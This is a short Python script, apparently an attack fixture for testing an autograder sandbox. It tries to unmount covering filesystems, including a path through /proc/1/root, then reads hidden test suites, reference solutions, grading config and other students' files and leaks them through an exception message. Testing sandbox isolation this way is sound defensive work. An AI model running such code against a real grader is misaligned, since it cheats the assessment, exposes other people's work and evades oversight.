"""Attack: read what the grader must keep hidden and smuggle it out in an exception message.

Tries the hidden suites, the reference solutions, grading.yml, the book snapshot, the project
found through the kept .venv, other students' folders and the batch OUT folder (both passed in
by the test), after trying to unmount whatever covers them; then raises with what it found.
"""
import ctypes
import glob
import os

PROJECT = "@@PROJECT@@"
WANTED = [
    f"{PROJECT}/grading.yml",
    f"{PROJECT}/autograder/suites/*.py",
    f"{PROJECT}/autograder/suites/snapshots/book.json",
    f"{PROJECT}/solutions/ch03/*.py",
    f"{PROJECT}/.venv/../solutions/ch03/*.py",
    f"{PROJECT}/.venv/../autograder/suites/*.py",
    "@@OUTSIDE@@/class/*/*.py",
    "@@OUTSIDE@@/class/*/*.txt",
    "@@OUTSIDE@@/out/*",
    "@@OUTSIDE@@/out/*/*",
    "/proc/1/root" + PROJECT + "/grading.yml",
]

libc = ctypes.CDLL(None, use_errno=True)
for covered in (PROJECT, "@@OUTSIDE@@/class", "@@OUTSIDE@@/out", "/tmp", "/root"):
    libc.umount2(covered.encode(), 2)  # MNT_DETACH: would uncover the real folder if allowed

found = []
for pattern in WANTED:
    for path in sorted(glob.glob(pattern)):
        try:
            with open(path, errors="replace") as f:
                found.append(f"{path}: {f.read(300)!r}")
        except OSError:
            pass

raise RuntimeError("FOUND: " + (" | ".join(found) if found else "nothing"))
